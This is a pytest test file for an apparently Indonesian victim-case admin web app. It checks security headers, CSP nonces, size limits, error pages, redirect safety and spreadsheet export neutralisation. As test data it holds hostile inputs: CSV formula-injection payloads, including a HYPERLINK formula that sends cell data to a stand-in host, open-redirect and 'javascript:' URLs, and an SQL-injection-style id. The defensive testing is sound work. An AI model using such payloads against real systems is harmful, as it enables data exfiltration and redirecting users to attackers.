"""Web hardening: security headers and a nonce-based Content-Security-Policy on every page, no inline script
left in the pages, request size limits with an Indonesian 413 page, exports that no spreadsheet evaluates,
and error pages in Bahasa Indonesia that show nothing from inside the server."""

from __future__ import annotations

import csv
import io
import re

import pytest
from flask import abort

from admin_app.extensions import db
from admin_app.security.exports import neutralise_formula
from admin_app.views.base import SecureModelView
from tests.helpers import csrf_token, http_login, login

NONCE_RE = re.compile(r"script-src 'nonce-([A-Za-z0-9_-]{20,})'")
SCRIPT_TAG_RE = re.compile(r"<script\b[^>]*>", re.I)
INTERNALS = ("Traceback", "werkzeug", "Werkzeug", "sqlalchemy", "File \"", "RuntimeError", "rahasia-internal")
ENGLISH_DEFAULTS = ("Not Found", "Internal Server Error", "Method Not Allowed", "Forbidden", "Bad Request",
                    "Request Entity Too Large", "Too Many Requests", "The requested URL", "URI Too Long")


def policy_of(response) -> dict[str, str]:
    header = response.headers["Content-Security-Policy"]
    return {part.split(" ", 1)[0]: part.split(" ", 1)[1] if " " in part else "" for part in header.split("; ")}


def assert_hardened_page(response) -> str:
    """The headers of an HTML page, and every script in it carrying this response's nonce; returns the nonce."""
    headers = response.headers
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["Referrer-Policy"] == "same-origin"
    assert headers["Cache-Control"] == "no-store"
    policy = policy_of(response)
    assert policy["frame-ancestors"] == "'none'"
    assert policy["object-src"] == "'none'" and policy["base-uri"] == "'none'"
    assert "unsafe-inline" not in policy["script-src"] and "unsafe-eval" not in policy["script-src"]
    assert "unsafe-inline" not in policy["style-src"]
    nonce = NONCE_RE.search(headers["Content-Security-Policy"]).group(1)
    html = response.get_data(as_text=True)
    for tag in SCRIPT_TAG_RE.findall(html):
        assert f'nonce="{nonce}"' in tag, f"script without this response's nonce: {tag}"
    # No inline event handler and no javascript: code left for the browser to block.
    assert not re.search(r"\son[a-z]+\s*=", html.replace("data-jangkau-onclick=", "")), "inline event handler"
    return nonce


# ---------------------------------------------------------------------------------------------- headers, CSP


def test_login_page_headers_and_a_fresh_nonce_per_response(client):
    first = client.get("/login")
    second = client.get("/login")
    assert first.status_code == 200
    assert assert_hardened_page(first) != assert_hardened_page(second)
    assert "Strict-Transport-Security" not in first.headers  # plain HTTP: no HSTS


def test_https_responses_ask_for_hsts(client):
    response = client.get("/login", base_url="https://localhost")
    assert response.headers["Strict-Transport-Security"].startswith("max-age=")


def test_static_files_are_cacheable_and_locked_down(client):
    response = client.get("/static/jangkau.js")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] != "no-store"
    assert policy_of(response)["default-src"] == "'none'"
    assert response.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    "username, paths",
    [
        ("petugas1", ["/admin/", "/admin/cases/", "/admin/cases/new/", "/admin/cases/details/?id={case}",
                      "/admin/victims/", "/admin/victims/details/?id={victim}", "/admin/victims/edit/?id={victim}"]),
        ("kepala", ["/admin/", "/admin/cases/", "/admin/cases/details/?id={case}", "/admin/audit/"]),
        ("sysadmin", ["/admin/", "/admin/users/", "/admin/users/new/", "/admin/settings/"]),
    ],
)
def test_every_main_page_is_hardened(client, make_user, builder, team, username, paths):
    if username == "sysadmin":
        make_user("sysadmin", "sysadmin")
    case = builder.register(child=False)
    builder.walk(case, 3)
    db.session.commit()
    login(client, username)
    for template in paths:
        path = template.format(case=case.id, victim=case.victims[0].id)
        response = client.get(path)
        assert response.status_code == 200, path
        assert_hardened_page(response)
    refused = client.get({"petugas1": "/admin/audit/", "kepala": "/admin/users/", "sysadmin": "/admin/cases/"}[username])
    assert refused.status_code == 403
    assert_hardened_page(refused)


def test_flask_admin_inline_handlers_are_moved_out_of_script(client, make_user, team):
    """Batch actions, filters and delete buttons of Flask-Admin carry their handler as data, not as script."""
    make_user("bagus", "sysadmin")
    login(client, "bagus")
    html = client.get("/admin/users/").get_data(as_text=True)
    assert "data-jangkau-onclick=\"return modelActions.execute('end_sessions');\"" in html
    assert 'data-jangkau-onclick="return false;"' in html  # the filter menu
    assert " onclick=" not in html


# ---------------------------------------------------------------------------------------------- size limits


def test_too_large_bodies_get_the_indonesian_413_page(app, client, make_user):
    make_user("rina", "petugas")
    login(client, "rina")
    token = csrf_token(client, "/admin/cases/new/")
    app.config["MAX_CONTENT_LENGTH"] = 64 * 1024
    too_big = client.post("/admin/cases/new/", data={"csrf_token": token, "summary": "x" * (80 * 1024)})
    assert too_big.status_code == 413
    page = too_big.get_data(as_text=True)
    assert "Data terlalu besar" in page and "64 KB" in page
    assert_hardened_page(too_big)


def test_a_single_huge_field_or_too_many_fields_get_413(app, client, make_user):
    make_user("rina", "petugas")
    login(client, "rina")
    token = csrf_token(client, "/admin/cases/new/")
    limit = app.config["MAX_FORM_MEMORY_SIZE"]
    huge_field = client.post("/admin/cases/new/", data={"csrf_token": token, "summary": "y" * (limit + 1)},
                             content_type="multipart/form-data")
    assert huge_field.status_code == 413
    assert "Data terlalu besar" in huge_field.get_data(as_text=True)
    # Url-encoded forms (every Flask-Admin screen, the login) have the same limits.
    huge_text = client.post("/admin/cases/new/", data={"csrf_token": token, "summary": "y" * (limit + 1)})
    assert huge_text.status_code == 413
    many = {f"f{i}": "1" for i in range(app.config["MAX_FORM_PARTS"])}
    many["csrf_token"] = token
    for content_type in ("application/x-www-form-urlencoded", "multipart/form-data"):
        too_many = client.post("/admin/cases/new/", data=many, content_type=content_type)
        assert too_many.status_code == 413, content_type
        assert "Data terlalu besar" in too_many.get_data(as_text=True)
    login_flood = client.post("/login", data={"username": "a" * (limit + 1), "password": "x"})
    assert login_flood.status_code == 413
    # Just under the limits a form is read as usual (refused by the form's own validation, not by size).
    fine = client.post("/admin/cases/new/", data={"csrf_token": token, "summary": "y" * 1000})
    assert fine.status_code == 200


def test_control_characters_are_refused_with_a_clear_message(client, make_user):
    make_user("rina", "petugas")
    login(client, "rina")
    token = csrf_token(client, "/admin/cases/new/")
    for data in ({"summary": "Korban\x00 dipukul"}, {"summary": "\x1b[31m"}, {"sum\x00mary": "x"}):
        response = client.post("/admin/cases/new/", data=dict(data, csrf_token=token))
        assert_error_page(response, 400, "karakter kontrol")
    assert_error_page(client.get("/admin/cases/?search=a%0Db"), 400, "karakter kontrol")
    # Tabs and line breaks are text: accepted (the form then validates as usual).
    fine = client.post("/admin/cases/new/", data={"csrf_token": token, "summary": "baris 1\r\nbaris\t2"})
    assert fine.status_code == 200


def test_overlong_urls_get_414(client, make_user):
    make_user("kepala", "kepala")
    login(client, "kepala")
    assert_error_page(client.get("/admin/cases/?search=" + "a" * 2001), 414, "terlalu panjang")
    assert_error_page(client.get("/admin/cases/?" + "&".join(f"x{i}=1234567" for i in range(1000))), 414)
    assert client.get("/admin/cases/?search=" + "a" * 2000).status_code == 200


@pytest.mark.parametrize(
    "url",
    [
        "/admin/users/details/?id=abc",
        "/admin/users/edit/?id=1%20OR%201=1",
        "/admin/cases/details/?id=99999999999999999999",
        "/admin/cases/details/?id=%00",
        "/admin/victims/new/?case_id=2147483648",
        "/admin/cases/langkah/9223372036854775808/submit_information",
    ],
)
def test_ids_that_name_no_record_are_not_found(client, make_user, url):
    make_user("kepala", "kepala", "sysadmin")
    login(client, "kepala")
    assert_error_page(client.get(url), 404, "Tidak ditemukan")


# ---------------------------------------------------------------------------------------------- exports


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
        ("+62812", "'+62812"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("  =1+1", "'  =1+1"),
        ("\u3000=HYPERLINK(1)", "'\u3000=HYPERLINK(1)"),
        ("\u00a0@SUM(A1)", "'\u00a0@SUM(A1)"),
        ("Siti Aminah", "Siti Aminah"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (3.5, 3.5),
        (None, None),
    ],
)
def test_formula_neutralisation(value, expected):
    assert neutralise_formula(value) == expected


def test_every_admin_model_view_neutralises_its_exports(app):
    from flask_admin.model import BaseModelView

    admin = app.extensions["admin"][0]
    model_views = [v for v in admin._views if isinstance(v, BaseModelView)]
    assert model_views
    for view in model_views:
        assert isinstance(view, SecureModelView), f"{type(view).__name__} exports without formula neutralisation"
        assert type(view).get_export_value is SecureModelView.get_export_value, type(view).__name__


def test_case_export_neutralises_formulas_in_victim_names(client, builder, team):
    case = builder.register(child=False)
    case.victims[0].full_name = '=HYPERLINK("http://jahat.example/?d="&A1,"klik")'
    db.session.commit()
    login(client, "kepala")
    response = client.get("/admin/cases/export/csv/")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + case.victims[0].full_name in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert response.headers["Cache-Control"] == "no-store"


def test_case_export_through_a_real_server_as_each_role(app, live_server, builder, team, make_user):
    """Streaming, cookies and teardown as a browser meets them: every row arrives, and only the head may export."""
    cases = [builder.walk(builder.register(), n) for n in (1, 3, 5, 7)]
    cases[1].victims[0].full_name = " =HYPERLINK(\"http://jahat.example\")"
    make_user("sysadmin1", "sysadmin")
    db.session.commit()
    head = http_login(live_server, "kepala")
    response = head.get(f"{live_server}/admin/cases/export/csv/", timeout=60)
    assert response.status_code == 200 and response.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 1 + len(cases)
    assert {c.case_number for c in cases} <= {cell for row in rows for cell in row}
    assert not any(cell.lstrip(" \u3000").startswith(("=", "+", "@")) and not cell.startswith("'")
                   for row in rows for cell in row)
    for username in ("petugas1", "administrasi", "sysadmin1"):
        refused = http_login(live_server, username).get(f"{live_server}/admin/cases/export/csv/", timeout=60,
                                                        allow_redirects=False)
        assert refused.status_code in (302, 403), (username, refused.status_code)
        assert "PJK-" not in refused.text


# ---------------------------------------------------------------------------------------------- error pages


def assert_error_page(response, code: int, *texts: str) -> str:
    assert response.status_code == code
    html = response.get_data(as_text=True)
    assert '<html lang="id">' in html
    assert f"({code})" in html
    for text in texts:
        assert text in html, html
    for leak in INTERNALS + ENGLISH_DEFAULTS:
        assert leak not in html, f"{code} page shows {leak!r}"
    assert_hardened_page(response)
    return html


def test_400_csrf_failure(client, make_user):
    assert_error_page(client.post("/login", data={"username": "x", "password": "y"}), 400, "token keamanan")
    make_user("rina", "petugas")
    login(client, "rina")
    assert_error_page(client.post("/admin/cases/new/", data={"summary": "tanpa token"}), 400, "Muat ulang halaman")


def test_403_404_405(client, make_user):
    assert_error_page(client.get("/tidak-ada"), 404, "Tidak ditemukan")
    assert_error_page(client.post("/healthz"), 405, "Cara akses tidak diizinkan")
    make_user("rina", "petugas")
    login(client, "rina")
    assert_error_page(client.get("/admin/users/"), 403, "Akses ditolak")
    assert_error_page(client.get("/admin/tidak-ada/"), 404, "Tidak ditemukan")
    assert client.post("/healthz").headers["Allow"]


def test_429_and_forced_500_pages_without_internals(app, client, make_user, monkeypatch):
    @app.route("/uji/terlalu-sering")
    def too_often():
        abort(429)

    @app.route("/uji/rusak")
    def broken():
        raise RuntimeError("rahasia-internal: SELECT nik FROM victims")

    app.config["RAISE_UNEXPECTED_VIEW_ERRORS"] = False
    make_user("rina", "petugas")
    login(client, "rina")
    assert_error_page(client.get("/uji/terlalu-sering"), 429, "Terlalu banyak")
    html = assert_error_page(client.get("/uji/rusak"), 500, "Terjadi kesalahan", "Kode kejadian")
    assert re.search(r"Kode kejadian: <code>[0-9a-f]{8}</code>", html)

    # A failure inside a real Flask-Admin screen, too.
    from admin_app.views.cases import CaseView

    def failing_list(*args, **kwargs):
        raise RuntimeError("rahasia-internal: list")

    monkeypatch.setattr(CaseView, "get_list", failing_list)
    assert_error_page(client.get("/admin/cases/"), 500, "Terjadi kesalahan")
    assert client.get("/admin/").status_code == 200  # the app goes on


@pytest.mark.parametrize("foreign", ["https://evil.example/", "//evil.example/x", "/\\evil.example", "javascript:alert(1)",
                                     " https://evil.example"])
def test_back_links_lead_only_into_this_app(client, builder, team, foreign):
    import re

    from tests.helpers import form_tokens

    case = builder.register(child=False)
    builder.walk(case, 3)
    db.session.commit()
    login(client, "petugas1")
    victim = case.victims[0]
    url = f"/admin/victims/edit/?id={victim.id}&url={foreign}"
    response = client.get(url)
    assert response.status_code == 302 and "evil" not in response.location and "url=" not in response.location
    page = client.get(response.location).get_data(as_text=True)
    links = re.findall(r'href="([^"]+)"', page)
    assert not [link for link in links if "evil" in link or link.startswith(("http", "//"))], links
    kept = client.get(f"/admin/victims/edit/?id={victim.id}&url=/admin/cases/details/?id={case.id}")
    assert kept.status_code == 200 and f'href="/admin/cases/details/?id={case.id}"' in kept.get_data(as_text=True)
    posted = client.post(url, data={**form_tokens(client, f"/admin/victims/edit/?id={victim.id}"), "full_name": "X"})
    assert posted.status_code == 400
    db.session.expire_all()
    assert db.session.get(type(victim), victim.id).full_name == victim.full_name


def test_list_filters_are_built_per_request_without_rewriting_the_shared_view(app, team, make_user):
    """A server's threads share each view instance. The case list reads its option lists (officers, kecamatan,
    violence types) as they are now, per request, and never rebuilds the view's filter cache (rebuilding it while
    another thread read it answered a list page with a 500 under load)."""
    import threading

    view = next(v for v in app.extensions["admin"][0]._views if v.endpoint == "cases")
    cache = (view._filters, view._filter_groups, view._filter_args)
    make_user("petugas_baru", "petugas", full_name="Rina Petugas Baru")
    statuses: list[int] = []

    def reader() -> None:
        with app.app_context():
            client = app.test_client()
            login(client, "kepala")
            for _ in range(8):
                response = client.get("/admin/cases/")
                fresh = "Rina Petugas Baru" in response.get_data(as_text=True)  # an officer added after start
                statuses.append(response.status_code if fresh else -response.status_code)

    threads = [threading.Thread(target=reader) for _ in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert statuses == [200] * 48
    assert (view._filters, view._filter_groups, view._filter_args) == cache
    assert all(a is b for a, b in zip(cache, (view._filters, view._filter_groups, view._filter_args), strict=True))
